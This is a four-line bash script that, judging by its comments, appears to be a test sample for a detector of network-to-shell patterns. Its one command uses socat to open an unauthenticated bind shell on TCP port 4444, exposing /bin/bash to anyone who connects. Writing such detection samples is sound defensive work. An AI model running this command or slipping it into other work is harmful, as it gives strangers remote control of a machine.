#!/bin/bash
# shows: a shell on a port by socat
# expect: network-to-shell at line 4
socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash,pty,stderr &
